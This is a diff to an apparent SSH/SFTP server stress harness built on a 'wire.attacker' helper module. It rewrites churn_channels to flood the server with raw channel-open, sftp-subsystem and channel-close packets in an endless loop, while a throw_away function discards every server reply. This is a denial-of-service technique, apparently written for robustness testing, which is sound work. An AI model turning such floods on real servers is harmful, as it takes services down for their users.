@@ -22,6 +22,7 @@ import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import suppress
+from functools import partial
 from pathlib import Path
 from struct import pack
 from typing import Any
@@ -39,6 +40,8 @@ from wire.attacker import (  # noqa: E402
     RawSftp,
     kexinit,
     packet,
+    send_raw,
+    ssh_message,
     ssh_packet,
     string,
 )
@@ -46,6 +49,7 @@ from wire.attacker import (  # noqa: E402
 NAMES = 5_000
 BIG = 80 << 20
 _EXTENDED = 200
+_GLOBAL_REQUEST, _CHANNEL_OPEN, _CHANNEL_CLOSE, _CHANNEL_REQUEST = 80, 90, 97, 98
 _WINDOW = (1 << 31) - 1
 _CONNECTIONS_PER_SECOND = 45
 _GROUP16 = b"diffie-hellman-group16-sha512"
@@ -136,13 +140,26 @@ def send_requests(transport: paramiko.Transport, kind: str) -> None:
 
 
 def churn_channels(transport: paramiko.Transport) -> None:
-    """Open and close channels."""
+    """Open channels, start SFTP on each, and close them, without waiting for the answers."""
+    number = int(transport.open_session().remote_chanid)
+    private: Any = transport
+    private.packetizer.read_message = partial(throw_away, transport.sock)
+    send_raw(transport, ssh_message(_GLOBAL_REQUEST, b"?", True))  # the answer ends the last read
     print("ready", flush=True)
     while True:
-        with suppress(paramiko.ChannelException):
-            channel = transport.open_session()
-            channel.invoke_subsystem("sftp")
-            channel.close()
+        number += 1
+        send_raw(transport, ssh_message(_CHANNEL_OPEN, b"session", 0, 1 << 20, 1 << 15))
+        send_raw(transport, ssh_message(_CHANNEL_REQUEST, number, b"subsystem", False, b"sftp"))
+        send_raw(transport, ssh_message(_CHANNEL_CLOSE, number))
+
+
+def throw_away(sock: Any) -> None:
+    """Receive everything and look at nothing, until the connection ends."""
+    room = bytearray(1 << 20)
+    while True:
+        with suppress(TimeoutError):
+            if not sock.recv_into(room):
+                raise EOFError
 
 
 def start_exchanges(port: int, source: str) -> None:
